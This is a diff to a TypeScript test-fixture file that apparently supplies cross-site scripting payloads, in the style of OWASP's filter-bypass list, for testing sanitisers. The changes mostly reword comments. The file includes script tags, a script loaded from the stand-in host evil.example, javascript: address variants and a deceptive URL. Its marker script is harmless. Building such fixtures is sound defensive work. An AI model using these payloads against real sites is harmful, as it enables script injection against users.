@@ -1,11 +1,14 @@
-/** What each string runs where it gets through. */
+/** The script that each string tries to run. */
 const JS = 'window.__xss=1';
 const codes = Array.from(JS, (character) => character.charCodeAt(0));
 const HEX = codes.map((code) => `&#x${code.toString(16)};`).join('');
 const DECIMAL = codes.map((code) => `&#${String(code)}`).join('');
 const CODES = codes.join(',');
 
-/** Strings in the manner of OWASP's list of ways around filters: markup, handlers, addresses, encodings, mutations. */
+/**
+ * Strings in the manner of OWASP's list for bypassing filters: markup, handlers, addresses, encodings,
+ * mutations.
+ */
 export const XSS: readonly string[] = [
   `<script>${JS}</script>`,
   `<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>`,
@@ -94,7 +97,7 @@ export const XSS: readonly string[] = [
   `\u2028<script>${JS}</script>`,
 ];
 
-/** Addresses that would run where a link or a picture takes them as they are. */
+/** Addresses that would run as a script in a link or picture. */
 export const XSS_ADDRESSES: readonly string[] = [
   `javascript:${JS}`,
   `JaVaScRiPt:${JS}`,
@@ -109,7 +112,7 @@ export const XSS_ADDRESSES: readonly string[] = [
   `https://www.youtube.com@evil.example/watch?v=dQw4w9WgXcQ`,
 ];
 
-/** The strings packed into as few as there may be of so many characters; what is longer by itself is left out. */
+/** The strings joined into as few texts as possible of at most this length; longer strings are left out. */
 export function packed(most: number): string[] {
   const packs: string[] = [];
   for (const text of XSS.filter(({ length }) => length <= most)) {
